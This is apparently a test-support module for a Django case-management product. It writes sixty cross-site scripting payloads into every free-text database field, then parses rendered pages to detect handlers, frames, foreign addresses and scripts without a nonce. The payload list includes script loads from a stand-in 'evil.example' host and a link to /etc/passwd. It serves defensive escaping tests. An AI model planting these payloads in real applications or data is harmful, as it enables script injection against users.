"""Sixty ways to smuggle markup into a text, the means to put them everywhere, and an eye that sees whether one took.

`poison` writes them past the forms into every free text of the record; `active` lists what a page would do that the
product never does itself.
"""

import itertools
import re
from collections.abc import Iterator
from html.parser import HTMLParser

from django.apps import apps
from django.db import models

OWN_APPS = {
    "accounts", "cases", "deadlines", "reception", "housing", "employment", "schooling", "health", "volunteers", "desk",
    "intake", "phrases", "offers",
}  # fmt: skip
CALL = "pwned(1)"
XSS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</option></select><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<script/x>{CALL}</script>",
    f"<script type=module>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src='x'/onerror={CALL}>",
    f"<IMG SRC=x OnErRoR={CALL}>",
    f"\"><img src=x onerror={CALL}>",
    f"'><img src=x onerror={CALL}>",
    f"`><img src=x onerror={CALL}>",
    "<img src=//evil.example/p.png>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x></svg>",
    "<svg><use href=//evil.example/s.svg#x></svg>",
    f"<svg><a href=javascript:{CALL}><text>x</text></a></svg>",
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data=javascript:{CALL}></object>",
    "<embed src=//evil.example/e>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='java&#115;cript:{CALL}'>x</a>",
    f"<a href=' javascript:{CALL}'>x</a>",
    f"<a href=data:text/html,<script>{CALL}</script>>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<details open ontoggle={CALL}>",
    f"<video src=x onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<marquee onstart={CALL}>x</marquee>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    f"\" onmouseover={CALL} x=\"",
    f"' onmouseover={CALL} x='",
    f"\" autofocus onfocus={CALL} x=\"",
    f"\" style=position:fixed;inset:0 onclick={CALL} x=\"",
    f"x onpointerenter={CALL} y",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    f"<div hx-on:load={CALL}>x</div>",
    "\" hx-get=\"//evil.example\" hx-trigger=\"load\" x=\"",
    f"<p data-hx-on-load={CALL}>x</p>",
    f"<img src=x onerror\n=\n{CALL}>",
)  # fmt: skip
# What the code reads or computes, in which no person writes anything.
STRUCTURAL = re.compile(
    r"^(number|rule|area|kind|role|index|search_key|slug|state|status|action|level|channel|key|request_id|mark|hash|"
    r"previous|fingerprint|password|username|purpose|waits_for|what|format|basis|subject|postal_code|phone|email|"
    r"data_class|checksum|mode|outcome|closing_reason|left_reason|sex|unit|run|name_key|external_source)$|_kind$|_key$|_number$|_nr$"
)
FORBIDDEN = {"iframe", "object", "embed", "base", "math", "marquee", "video", "audio", "animate", "frame", "applet"}
ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "hx-get", "hx-post", "srcdoc"}


def free_texts(model) -> list[models.Field]:
    """The columns in which people write what they like."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not field.is_relation
        and not isinstance(field, models.EmailField | models.UUIDField)
        and not STRUCTURAL.search(field.name)
        and type(field).__name__ != "EncryptedTextField"
        and (field.max_length or 1000) >= 20
    ]


def poison(payloads=XSS) -> int:
    """Every free text of every row gets a payload that fits into it, one after the other. Returns their number."""
    turn, written = itertools.cycle(payloads), 0
    for model in apps.get_models():
        names = free_texts(model) if model._meta.app_label in OWN_APPS else []
        if not names or model._meta.label.startswith("accounts.Access"):
            continue
        for pk in list(model._base_manager.values_list("pk", flat=True)):
            held = model._base_manager.filter(pk=pk)
            # a reason stands only beside the day it explains
            kept = {name for name, value in held.values().get().items() if name.endswith("_reason") and not value}
            fresh = {field.name: fitting(field, turn, pk) for field in names if field.name not in kept}
            written += held.update(**fresh) and len(fresh)
    return written


def fitting(field, turn: Iterator[str], pk) -> str:
    """The next payload that the column holds whole; the row's id behind it, where two may not be alike."""
    room = field.max_length or 1000
    tail = f" {pk}" if field.unique else ""
    for payload in itertools.islice(turn, len(XSS)):
        if len(payload) + len(tail) <= room:
            return payload + tail
    return f"<b>{tail}"[:room]


class Eye(HTMLParser):
    """Collects what a page of the product never has: handlers, foreign addresses, frames, scripts without a nonce."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.seen: list[str] = []

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        if tag in FORBIDDEN:
            self.seen.append(f"<{tag}>")
        own = (given.get("src") or "").startswith("/static/") or given.get("type") == "application/json"
        if tag in {"script", "style"} and not own and "nonce" not in given:
            self.seen.append(f"<{tag}> of nobody's")
        if tag == "meta" and (given.get("http-equiv") or "").lower() == "refresh":
            self.seen.append("<meta refresh>")
        for name, value in attrs:
            self.attribute(tag, name, re.sub(r"\s", "", value or "").lower())

    handle_startendtag = handle_starttag

    def attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or "hx-on" in name:
            self.seen.append(f"<{tag} {name}>")
        if name == "style":
            self.seen.append(f"<{tag} style>")
        if name in ADDRESSES and value.startswith(("javascript:", "data:text", "//", "file:", "vbscript:")):
            self.seen.append(f"<{tag} {name}={value[:40]}>")
        if tag == "img" and name == "src" and not value.startswith(("/", "data:image/")):
            self.seen.append(f"<{tag} {name}={value[:40]}>")


def active(html: str) -> list[str]:
    """What the page would do beyond what the product does; empty for every page of the product."""
    eye = Eye()
    eye.feed(html)
    eye.close()
    return eye.seen
